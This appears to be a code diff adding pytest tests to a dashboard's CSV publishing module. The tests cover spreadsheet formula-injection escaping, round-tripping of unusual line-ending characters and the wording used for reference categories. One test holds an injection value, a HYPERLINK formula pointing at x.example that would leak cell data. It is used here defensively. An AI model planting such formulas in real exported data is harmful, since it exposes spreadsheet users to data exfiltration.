@@ -23,6 +23,7 @@ from dashboard import publishing
 from dashboard.cli import app
 from dashboard.governing import Refused
 from dashboard.paper.publication import as_csv
+from dashboard.paper.publication import page as printed
 from dashboard.publishing import Said
 from models.record import sha256
 from storage.archive import Archive
@@ -98,6 +99,38 @@ def test_no_category_is_a_formula_for_a_spreadsheet(begins: str) -> None:
     cells = [cell for row in written for cell in row]
     assert f"'{hostile}" in cells
     assert not any(cell.startswith(begins) for cell in cells)
+
+
+@pytest.mark.parametrize("begins", ["=", "+", "-", "@", " =", "  +"])
+@pytest.mark.parametrize("apart", [",", ";"])
+def test_no_word_about_the_data_is_a_formula_for_a_spreadsheet(begins: str, apart: str, tmp_path: Path) -> None:
+    source = f'Our HR system{apart}{begins}HYPERLINK("http://x.example"&A1){apart} 2025'
+    written = as_csv(said(source), draft=False)
+    cells = [cell for row in csv.reader(written.splitlines(), delimiter=apart) for cell in row]
+    assert not any(cell.strip().startswith(("=", "+", "-", "@")) for cell in cells)
+    (tmp_path / "page.csv").write_text(written)
+    assert read(tmp_path / "page.csv").data_source == source
+
+
+@pytest.mark.parametrize("line", ["\u2028", "\u2029", "\x85", "\n"])
+def test_what_ends_a_line_in_a_word_about_the_data_is_read_back(line: str, tmp_path: Path) -> None:
+    (tmp_path / "page.csv").write_text(as_csv(said(f"one{line}two"), draft=False))
+    assert read(tmp_path / "page.csv").data_source == f"one{line}two"
+
+
+def said(source: str) -> Publication:
+    rows = (Row(group="a", n=40, rate="50 %"), Row(group="b", n=60, rate="40 %"))
+    return Publication(data_source=source, tables=(Table(table="sex", rows=rows),))
+
+
+@pytest.mark.parametrize(("kind", "best"), [("scoring", "highest scoring"), ("selection", "most selected")])
+def test_the_category_that_others_are_divided_by_is_called_after_its_rate(archive: Archive, kind: Any, best: str) -> None:  # fmt: skip
+    rows = (Row(group="a", n=40, rate="0.5", benchmark=True), Row(group="b", n=60, rate="0.4", published_ratio="0.8"))
+    made = Publication(tables=(Table(table="sex", kind=kind, rows=rows),))
+    written = printed(made, archive.newest_report("mortgage@2"), draft=False)
+    assert f"by that of the {best} category" in written
+    assert f"The {best} category: the others are divided by its rate." in written
+    assert ("most selected" in written) == (kind == "selection")
 
 
 def test_publishing_is_one_act_that_names_the_page(archive: Archive) -> None:
